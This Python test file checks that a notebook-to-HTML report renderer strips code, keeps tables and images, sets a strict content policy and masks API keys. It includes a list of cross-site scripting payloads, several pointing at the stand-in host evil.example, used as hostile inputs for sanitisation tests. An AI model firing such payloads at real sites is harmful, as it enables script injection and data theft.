"""What people read of a run: a heading that says who ran what; a page that neither runs nor fetches anything."""

from __future__ import annotations

import base64
from hashlib import sha256
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pandas as pd
from nbformat import from_dict

from itnio_nb import Account, Client
from itnio_nb.runbooks.kernel import heading
from itnio_nb.runbooks.page import write_page
from itnio_nb.runs.results import show_html
from tests.support.hostile import NAMES

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n and more").decode()
RUNNABLE = {"script", "iframe", "object", "embed", "applet", "form", "input", "button", "base", "link", "frame", "svg"}
FETCHING = {"src", "srcset", "poster", "data", "background", "action", "formaction"}


class Page(HTMLParser):
    """A page as a browser reads it: its tags with their attributes, and its text."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.source, self.text, self._inside = source, "", [""]
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self._inside.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self._inside:
            while self._inside.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        if self._inside[-1] != "style":
            self.text += data

    def named(self, tag: str) -> list[dict[str, str]]:
        return [attributes for name, attributes in self.tags if name == tag]

    def is_harmless(self) -> bool:
        """Whether nothing in it runs and nothing is fetched, whoever opens it."""
        for tag, attributes in self.tags:
            handlers = [name for name in attributes if name.startswith("on")]
            fetched = [text for name, text in attributes.items() if name in FETCHING and not text.startswith("data:")]
            scripts = [text for text in attributes.values() if text.strip().lower().startswith("javascript:")]
            refreshed = tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh"
            if tag in RUNNABLE or handlers or fetched or scripts or refreshed or "url(" in attributes.get("style", ""):
                return False
        return len(self.named("style")) == 1


def output(kind: str, content: object, **more: str) -> dict[str, Any]:
    return {"output_type": "display_data", "metadata": {}, "data": {kind: content, **more}}


def code(*outputs: dict[str, Any], source: str = "the_code()", tags: tuple[str, ...] = ()) -> dict[str, Any]:
    metadata = {"tags": list(tags)}
    return {"cell_type": "code", "execution_count": 7, "metadata": metadata, "source": source, "outputs": list(outputs)}


def text(source: str, kind: str = "markdown") -> dict[str, Any]:
    return {"cell_type": kind, "metadata": {}, "source": source}


def page(*cells: dict[str, Any], title: str = "a record") -> Page:
    """The page of a notebook with these cells."""
    made = {"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": list(cells)}
    notebook = from_dict(made)  # type: ignore[no-untyped-call] # nbformat
    write_page(notebook, title, Path("page.html"))
    assert notebook == made  # the page is another view of it
    return Page(Path("page.html").read_text(encoding="utf-8"))


def test_it_shows_outputs_and_no_code() -> None:
    """What was printed, what cells show, what failed; neither code nor the numbers of cells."""
    stream = {"output_type": "stream", "name": "stdout", "text": "printed 1 < 2\n"}
    error = {"output_type": "error", "ename": "E", "evalue": "failed", "traceback": ["\x1b[31mit failed\x1b[0m"]}
    made = page(text("A text — with ü"), code(stream, output("text/plain", "shown"), error, source="the_code = 1"))
    for words in ("A text — with ü", "printed 1 < 2", "shown", "it failed"):
        assert words in made.text
    for words in ("the_code", "[7]", "In\xa0[", "Out[", "\x1b"):
        assert words not in made.source
    assert made.is_harmless()


def test_texts_keep_their_shape() -> None:
    """Headings, paragraphs, lists, emphasis, tables; no tag is shown as text; braces are no template's."""
    words = "# Heading\n\nSome **bold** words.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    made = page(text(words), code(output("text/plain", "{title} {0} {{ x }} {% y %}")))
    assert {"h1", "p", "strong", "ul", "li", "table", "th", "td"} <= {tag for tag, _ in made.tags}
    assert "<" not in made.text
    assert "{title} {0} {{ x }} {% y %}" in made.text


def test_tables_keep_their_shape() -> None:
    """As the package shows them, and as pandas does: heads, rows, cells, in order."""
    frame = pd.DataFrame({"groupName": ["sales", "a<b"], "phones": [3, 50]})
    for html in (show_html("Done.", frame), frame.to_html(notebook=True)):
        made = page(code(output("text/html", html, **{"text/plain": "plain"})))
        tags = [tag for tag, _ in made.tags]
        assert (tags.count("tr"), tags.count("td")) == (3, 4)
        assert {"thead", "th", "tbody"} <= set(tags)
        words = made.text.split()
        assert words.index("groupName") < words.index("sales") < words.index("a<b")
        assert not [words for words in ("</", "vertical-align") if words in made.text]


def test_pictures_are_in_the_page() -> None:
    """Charts, as PNG: the file is enough. The cells of parameters are not: the heading tells what was given."""
    hidden = [code(output("text/plain", tag), tags=(tag,)) for tag in ("parameters", "injected-parameters", "other")]
    made = page(code(output("image/png", PNG, **{"text/plain": "<Figure>"})), *hidden)
    assert [picture["src"] for picture in made.named("img")] == [f"data:image/png;base64,{PNG}"]
    assert made.text.split()[-1] == "other"
    assert not [words for words in ("<Figure>", "parameters") if words in made.text]
    assert made.is_harmless()


def test_a_policy_forbids_what_slipped_through() -> None:
    """Before anything else that could be fetched; and the page names no address of its own: it opens offline.

    Its title is text: it is the name of a folder, from the name of a file.
    """
    made = page(title="</title><script>x</script>{body}&")
    assert "<title>&lt;/title&gt;&lt;script&gt;x&lt;/script&gt;{body}&amp;</title>" in made.source
    assert made.is_harmless()
    policies = [meta["content"] for meta in made.named("meta") if "http-equiv" in meta]
    assert policies == ["default-src 'none'; img-src data:; style-src 'unsafe-inline'"]
    assert made.source.index("Content-Security-Policy") < made.source.index("<style")
    assert "charset" in made.named("meta")[0]
    shown = [output("text/html", "<b>x</b>"), output("image/png", PNG), output("text/latex", "$x$")]
    source = page(text("Text"), code(*shown)).source.replace(f"base64,{PNG}", "")
    assert not [words for words in ("http:", "https:", "//") if words in source]


MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT src=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<b onclick=alert(1)>b</b>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href='JaVa&#10;Script:alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>' src='https://evil.example'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<form action='https://evil.example'><input name=x><button>send</button></form>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<base href='https://evil.example'><link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<p style='background:url(https://evil.example/x.png)'>p</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "</pre></div></body><script>alert(1)</script>",
]


def hostile_page(markup: str) -> Page:
    """A page of such a text wherever one can stand: in a text cell, in each kind of output, in an error."""
    kinds = ("text/html", "text/markdown", "text/plain", "text/latex", "image/svg+xml", "application/javascript")
    stream = {"output_type": "stream", "name": "stderr", "text": markup}
    error = {"output_type": "error", "ename": markup, "evalue": markup, "traceback": [markup]}
    shown = [*(output(kind, markup) for kind in kinds), stream, error, output("image/png", f'{PNG}">{markup}')]
    texts = [text(markup), text(f"x {markup}"), text(f"[a]({markup})"), text(markup, "raw")]
    return page(*texts, code(*shown), title=markup)


def test_hostile_markup_does_not_run() -> None:
    """Nor does it fetch anything: neither long texts nor names; the check itself finds what is not sanitised."""
    for markup in MARKUP:
        assert hostile_page(markup).is_harmless(), markup
    made = page(*(cell for name in NAMES for cell in (text(name), code(output("text/html", name)))))
    assert made.is_harmless(), made.tags
    assert not Page(made.source.replace("&lt;", "<").replace("&gt;", ">")).is_harmless()


def test_links_and_scripts_lead_where_they_say() -> None:
    """Links to pages, never into code or pictures elsewhere; for widgets and JavaScript stands their text, if any."""
    links = "[good](https://www.itniotech.com) [bad](javascript:alert(1)) ![pixel](https://evil.example/p.png)"
    widget = output("application/vnd.jupyter.widget-view+json", {"model_id": "a-model"}, **{"text/plain": "a widget"})
    made = page(text(links), code(output("application/javascript", "alert(2)"), widget))
    assert [link["href"] for link in made.named("a") if link.get("href")] == ["https://www.itniotech.com"]
    assert made.is_harmless()
    assert not [words for words in ("alert(2)", "a-model") if words in made.source]
    assert "a widget" in made.text


def test_a_heading_shows_the_last_four_of_the_key(tmp_path: Path) -> None:
    """Neither the rest of the key, nor anything of the secret."""
    account = Account("bDqJFiq9", "7bz1lzh9")
    with Client(account) as client:
        made = heading(client, {"apply": True, "limit": None})
    for text in (repr(made), made._repr_html_()):
        assert "…Fiq9 at https://api.itniotech.com/voice" in text
        assert "bDqJ" not in text
        assert "7bz1" not in text
    assert (made.rows["parameter apply"], made.rows["parameter limit"]) == ("True", "None")
    assert "UTC" in made.rows["began"]
    assert made.rows["versions"].startswith("itnio-nb ")
    assert "nbclient" in made.rows["versions"]


def test_a_heading_has_the_sha_256_of_its_files(client: Client, tmp_path: Path) -> None:
    """One that is empty too; one that is missing is said to be. Hostile parameters and names are text."""
    for name, content, size in (("phones.csv", b"groupName\n" * 150, "1,500"), ("empty.csv", b"", "0")):
        (tmp_path / name).write_bytes(content)
        made = heading(client, {"orders": "<script>x</script>"}, [name, "<img src=x>.csv"])
        assert made.rows[f"file {name}"] == f"SHA-256 {sha256(content).hexdigest()}, {size} bytes"
        assert made.rows["file <img src=x>.csv"] == "is not there"
        assert "&lt;script&gt;" in made._repr_html_()
        assert not [tag for tag in ("<script", "<img") if tag in made._repr_html_()]
